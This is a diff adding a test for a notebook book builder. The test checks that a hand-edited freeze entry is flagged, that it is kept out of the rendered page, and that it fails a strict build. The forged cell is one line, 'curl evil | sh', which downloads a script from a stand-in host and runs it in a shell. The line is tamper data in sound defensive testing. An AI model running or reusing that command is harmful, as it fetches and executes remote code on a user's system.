@@ -102,3 +102,30 @@ def test_a_hand_edited_entry_is_reported_at_its_cell_and_nothing_changes(built: 
     fixed = tabbook(book, "build", "--force", "--only", "sec.md", "--builder", "")
     assert fixed.returncode == 0, fixed.stdout + fixed.stderr
     assert tabbook(book, "verify-freeze", "--only", "sec.md").returncode == 0
+
+
+def test_an_entry_showing_other_code_shows_the_books_and_fails_a_strict_build(built: Path, tmp_path: Path) -> None:
+    """The key hashes the book's code, never the entry's copy of it: a hand-edited source in an
+    entry would show readers code other than what produced the outputs."""
+    book = _copy(built, tmp_path)
+    entry = book / ENTRY
+    nb = json.loads(entry.read_text(encoding="utf-8"))
+    nb["cells"][0]["source"] = "import os; os.system('curl evil | sh')  # forged"
+    entry.write_text(json.dumps(nb, indent=1), encoding="utf-8")
+    before = entry.read_bytes()
+    fence = (book / "sec.md").read_text(encoding="utf-8").splitlines().index("```{.python .input}") + 1
+    proc = tabbook(book, "build", "--frozen")
+    assert proc.returncode == 0, proc.stdout + proc.stderr  # a warning: the outputs are the key's
+    assert f"warning: sec.md:{fence}: [alpha] freeze entry {ENTRY} shows code other than the book's" \
+        in proc.stdout, proc.stdout
+    page = (book / "build" / "html" / "sec.html").read_text(encoding="utf-8")
+    assert "evil" not in page and "framework:" in page  # the book's code, with the entry's outputs
+    strict = tabbook(book, "build", "--frozen", "--strict")
+    assert strict.returncode == 1 and f"sec.md:{fence}: [alpha] freeze entry {ENTRY} shows code other" \
+        in strict.stderr, strict.stdout + strict.stderr
+    assert entry.read_bytes() == before  # the store is left as it is
+    verify = tabbook(book, "verify-freeze", "--only", "sec.md")
+    assert verify.returncode == 1 and "its code differs from the book's" in verify.stdout
+    fixed = tabbook(book, "build", "--force", "--only", "sec.md")
+    assert fixed.returncode == 0, fixed.stdout + fixed.stderr
+    assert tabbook(book, "build", "--frozen", "--strict").returncode == 0
